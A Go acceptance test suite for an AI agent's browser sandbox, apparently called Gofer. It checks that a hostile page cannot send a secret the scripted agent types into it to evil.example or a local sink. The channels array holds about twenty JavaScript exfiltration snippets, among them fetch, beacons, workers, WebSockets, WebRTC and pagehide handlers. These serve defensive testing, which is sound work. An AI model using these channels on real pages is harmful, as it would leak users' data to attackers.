//go:build linux

package acceptance

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"gofer/backend/browser"
	"gofer/backend/chat"
	"gofer/backend/engine"
	"gofer/backend/llm/script"
)

const canary = "canary-7c1e9b"

// outlet is the attacker's computer: it notes connections, requests and packets.
type outlet struct {
	*httptest.Server
	udp     net.PacketConn
	conns   atomic.Int64
	packets atomic.Int64
	mu      sync.Mutex
	got     map[string]string // by path, what came with it
}

func newOutlet(t *testing.T) *outlet {
	t.Helper()
	o := &outlet{got: map[string]string{}}
	o.Server = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		o.mu.Lock()
		o.got[r.URL.Path] += r.URL.RawQuery + " " + string(body)
		o.mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	o.Config.ConnState = func(_ net.Conn, s http.ConnState) {
		if s == http.StateNew {
			o.conns.Add(1)
		}
	}
	o.Start()
	t.Cleanup(o.Close)
	var err error
	if o.udp, err = (&net.ListenConfig{}).ListenPacket(t.Context(), "udp", "127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = o.udp.Close() })
	go func() {
		for buf := make([]byte, 2048); ; {
			if _, _, err := o.udp.ReadFrom(buf); err != nil {
				return
			}
			o.packets.Add(1)
		}
	}()
	return o
}

func (o *outlet) address() string { return strings.TrimPrefix(o.URL, "http://") }

// seen returns what arrived at a path, and whether anything did.
func (o *outlet) seen(path string) (string, bool) {
	o.mu.Lock()
	defer o.mu.Unlock()
	s, ok := o.got[path]
	return s, ok
}

func (o *outlet) paths() []string {
	o.mu.Lock()
	defer o.mu.Unlock()
	var out []string
	for p := range o.got {
		out = append(out, p)
	}
	slices.Sort(out)
	return out
}

// channels are the ways a script of a page can send something. E is where to,
// with what to add; S is the page's own site.
var channels = []struct{ name, script string }{
	{"fetch", `fetch(E('fetch'),{mode:'no-cors'})`},
	{"image", `new Image().src=E('image')`},
	{"beacon", `navigator.sendBeacon(E('beacon'),v)`},
	{"form", `const i=add('iframe',{name:'f'});const f=add('form',{method:'post',target:'f',action:E('form')});f.innerHTML='<input name=d>';f.d.value=v;f.submit()`},
	{"frame", `add('iframe',{src:E('frame')})`},
	{"prefetch", `add('link',{rel:'prefetch',href:E('prefetch')})`},
	{"events", `new EventSource(E('events'))`},
	{"worker", `new Worker(URL.createObjectURL(new Blob(["fetch('"+E('worker')+"',{mode:'no-cors'})"])))`},
	{"import", `new Worker(URL.createObjectURL(new Blob(["importScripts('"+E('import')+"')"])))`},
	{"popup", `window.open(E('popup'))`},
	{"link", `const i=add('iframe',{});const a=i.contentDocument.createElement('a');a.href=E('link');i.contentDocument.body.append(a);a.click()`},
	{"socket", `new WebSocket(E('socket').replace('http','ws'))`},
	{"redirect", `fetch('/to?'+encodeURIComponent(E('redirect')),{mode:'no-cors'})`},
	{"style", `document.body.style.backgroundImage='url('+E('style')+')'`},
	{"video", `add('video',{src:E('video'),preload:'auto'})`},
	{"shared", `new SharedWorker('/shared.js?'+encodeURIComponent(E('shared')))`},
	{"service", `navigator.serviceWorker.register('/service.js?'+encodeURIComponent(E('service')))`},
	{"webrtc", `const p=new RTCPeerConnection({iceServers:[{urls:'stun:'+UDP}]});p.createDataChannel('d');p.createOffer().then(o=>p.setLocalDescription(o))`},
	{"top", `setTimeout(()=>location.href='/to?'+encodeURIComponent(E('top')),300)`},
	{"hide", `addEventListener('pagehide',()=>{navigator.sendBeacon(E('hide'),v);fetch(E('hide'),{mode:'no-cors',keepalive:true})})`},
}

// hostile is a site that sends what is typed into it elsewhere, in every way.
func hostile(t *testing.T, to string, udp net.Addr) *httptest.Server {
	t.Helper()
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		query := r.URL.RawQuery
		to2 := strings.NewReplacer("%3A", ":", "%2F", "/", "%3F", "?", "%3D", "=").Replace(query)
		switch r.URL.Path {
		case "/to":
			http.Redirect(w, r, to2, http.StatusFound)
		case "/shared.js", "/service.js":
			w.Header().Set("Content-Type", "text/javascript")
			fmt.Fprintf(w, "fetch(%q,{mode:'no-cors'})", to2)
		case "/":
			var js strings.Builder
			for _, c := range channels {
				if slices.Contains(strings.Split(query, ","), c.name) {
					fmt.Fprintf(&js, "try{(()=>{%s})()}catch(e){console.log(%q,e)}\n", c.script, c.name)
				}
			}
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			fmt.Fprintf(w, `<title>Bread</title><input aria-label=Note>%s<script>
const UDP=%q,E=p=>%q+'/'+p+'?d='+v,add=(n,a)=>{const e=document.createElement(n);Object.assign(e,a);document.body.append(e);return e}
let v='',done=false
document.querySelector('input').addEventListener('input',e=>{v=e.target.value;if(done||v.length<%d)return;done=true
%s})</script>`, onLoad(to), udp.String(), to, len(canary), js.String())
		default:
			fmt.Fprint(w, "<title>Quiet</title>nothing here")
		}
	}))
	t.Cleanup(site.Close)
	return site
}

// onLoad is what the page loads from an address of this computer by itself.
func onLoad(to string) string {
	if !strings.Contains(to, "127.0.0.1") {
		return ""
	}
	return fmt.Sprintf(`<img src="%s/load"><link rel=preconnect href="%s"><script src="%s/load.js"></script>`, to, to, to)
}

// groups are channels that are tried together, since some leave the page. The
// first is that of a page being left, while no other lane carries.
var groups = []string{"hide", "fetch,image,beacon,form,frame,prefetch,worker,import,events,link,socket,redirect,style,video,shared,service,webrtc", "popup", "top"}

// carries plays the obedient model, once a group: it opens a page of a site,
// reads a file and types what that says into the page.
func carries(t *testing.T, p *here, mode, site string) []chat.ToolResult {
	t.Helper()
	f := &field{ws: t.TempDir()}
	if err := os.WriteFile(filepath.Join(f.ws, "notes.txt"), []byte("the word is "+canary), 0o600); err != nil {
		t.Fatal(err)
	}
	var all []chat.ToolResult
	for _, group := range groups {
		var turns []script.Turn
		for _, c := range []script.Call{
			script.Tool("browser_open", args{"url": site + "/?" + group}),
			script.Tool("fs_read", args{"path": "notes.txt"}),
			script.Tool("browser_snapshot", args{}),
			script.Tool("browser_type", args{"ref": "e1", "text": canary, "keys": true}),
			script.Tool("browser_network", args{}),
			script.Tool("browser_wait", args{"ms": 1000}),
			script.Tool("browser_open", args{"url": site + "/quiet"}),
			script.Tool("browser_wait", args{"ms": 300}),
		} {
			turns = append(turns, script.Calls(c))
		}
		all = append(all, refusingAll(t, p, f, mode, []string{"visit: " + site}, turns)...)
	}
	return all
}

// TestAPageThatWasGivenSomethingCannotSendItElsewhere tries every channel of a
// page, to a host of the internet and to a port of this computer, and shows in
// Full mode that each of them would have worked.
func TestAPageThatWasGivenSomethingCannotSendItElsewhere(t *testing.T) {
	for _, c := range []struct{ name, mode, to string }{
		{"a host of the internet", "ask", "http://evil.example"},
		{"a port of this computer", "ask", ""},
		{"Full, a host of the internet", "full", "http://evil.example"},
		{"Full, a port of this computer", "full", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			sink := newOutlet(t)
			if c.to == "" {
				c.to = sink.URL
			}
			p := openWith(t, newHome(t), engine.Options{Instead: map[string]string{"evil.example:80": sink.address()}})
			p.unnamed()
			site := hostile(t, c.to, sink.udp.LocalAddr())
			said := text(carries(t, p, c.mode, site.URL))
			if strings.Count(said, "Typed into") != len(groups) || strings.Count(said, "Opened "+site.URL+"/quiet HTTP 200") != len(groups) {
				t.Fatalf("the model did not get through:\n%s", said)
			}
			if c.mode == "full" {
				for _, ch := range channels {
					if ch.name == "webrtc" { // which is closed in every mode
						continue
					}
					until(t, 10*time.Second, ch.name+" reaches the sink in Full, which got "+fmt.Sprint(sink.paths()), func() bool { s, ok := sink.seen("/" + ch.name); return ok && strings.Contains(s, canary) })
				}
				return
			}
			t.Logf("%d channels tried: %d connections, %d packets, requests %v", len(channels), sink.conns.Load(), sink.packets.Load(), sink.paths())
			if sink.conns.Load() != 0 || sink.packets.Load() != 0 || len(sink.paths()) > 0 {
				t.Errorf("%d connections and %d packets arrived, requests for %v", sink.conns.Load(), sink.packets.Load(), sink.paths())
			}
			host := strings.TrimPrefix(c.to, "http://")
			if !strings.Contains(said, "Gofer refused what the page wanted of "+host+":") || !strings.Contains(said, "failed refused by Gofer fetch "+c.to+"/fetch") || !strings.Contains(said, "failed refused by Gofer websocket ws://"+host+"/socket") {
				t.Errorf("the model is not told of it:\n%s", said)
			}
		})
	}
}

// TestWebRTCWouldGoRound shows that the packets are real that the flags keep
// back in every mode.
func TestWebRTCWouldGoRound(t *testing.T) {
	for _, c := range []struct {
		flags []string
		want  bool
	}{
		{nil, false},
		{[]string{"--force-webrtc-ip-handling-policy=default", "--webrtc-ip-handling-policy=default"}, true},
	} {
		sink := newOutlet(t)
		site := hostile(t, sink.URL, sink.udp.LocalAddr())
		b := browser.New(browser.Options{Profile: t.TempDir(), Headless: true, Flags: c.flags})
		t.Cleanup(func() { _ = b.Close() })
		s := b.Session("s")
		if _, err := s.Open(t.Context(), site.URL+"/?webrtc", false); err != nil {
			t.Fatal(err)
		}
		if _, err := s.Eval(t.Context(), `(()=>{const i=document.querySelector('input');i.value='`+canary+`';i.dispatchEvent(new Event('input'))})()`, ""); err != nil {
			t.Fatal(err)
		}
		soon, cancel := context.WithTimeout(t.Context(), 4*time.Second)
		for soon.Err() == nil && (sink.packets.Load() > 0) != c.want || !c.want && soon.Err() == nil {
			time.Sleep(20 * time.Millisecond)
		}
		cancel()
		if got := sink.packets.Load(); (got > 0) != c.want {
			t.Errorf("with the flags %q %d packets arrived", c.flags, got)
		}
	}
}

func text(results []chat.ToolResult) string {
	var b strings.Builder
	for _, r := range results {
		fmt.Fprintf(&b, "%s: %s\n", r.Name, r.Text)
	}
	return b.String()
}

// TestAnEverydayPageWorksThroughTheFilter shows a page that loads from two other
// hosts: it goes on to do so, also while something from elsewhere is in it, and
// until then meets hosts for the first time.
func TestAnEverydayPageWorksThroughTheFilter(t *testing.T) {
	far := newOutlet(t)
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			fmt.Fprint(w, "<title>Quiet</title>quiet")
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, `<title>Shop</title><input aria-label=Word><script src="http://scripts.example/load.js"></script><img src="http://pictures.example/load.png"><script>
let n=0;document.querySelector('input').addEventListener('change',()=>{n++
for(const h of ['scripts','pictures','new'+n])fetch('http://'+h+'.example/typed'+n+h,{mode:'no-cors'}).catch(()=>0)})</script>`)
	}))
	t.Cleanup(site.Close)
	internet := map[string]string{"shop.example:80": strings.TrimPrefix(site.URL, "http://")}
	for _, h := range []string{"scripts", "pictures", "new1", "new2", "other"} {
		internet[h+".example:80"] = far.address()
	}
	p := openWith(t, newHome(t), engine.Options{Instead: internet})
	p.unnamed()
	f := &field{ws: t.TempDir()}
	if err := os.WriteFile(filepath.Join(f.ws, "notes.txt"), []byte("the word is "+canary), 0o600); err != nil {
		t.Fatal(err)
	}
	var turns []script.Turn
	for _, c := range []script.Call{
		script.Tool("browser_open", args{"url": "http://shop.example/"}),
		script.Tool("browser_snapshot", args{}),
		script.Tool("browser_type", args{"ref": "e1", "text": "bread", "submit": true}),
		script.Tool("browser_wait", args{"ms": 300}),
		script.Tool("fs_read", args{"path": "notes.txt"}),
		script.Tool("browser_type", args{"ref": "e1", "text": canary, "submit": true}),
		script.Tool("browser_wait", args{"ms": 300}),
		script.Tool("browser_open", args{"url": "http://other.example/page"}),
	} {
		turns = append(turns, script.Calls(c))
	}
	said := text(refusingAll(t, p, f, "ask", []string{"visit: http://shop.example", "visit: http://other.example", "send: http://shop.example"}, turns))
	want := []string{"/load.js", "/load.png", "/page", "/typed1new1", "/typed1pictures", "/typed1scripts", "/typed2pictures", "/typed2scripts"}
	if got := slices.DeleteFunc(far.paths(), func(p string) bool { return p == "/favicon.ico" }); !slices.Equal(got, want) {
		t.Errorf("the page reached %v, want %v:\n%s", got, want, said)
	}
	if !strings.Contains(said, "Gofer refused what the page wanted of new2.example: ") {
		t.Errorf("the model is not told what was refused:\n%s", said)
	}
}
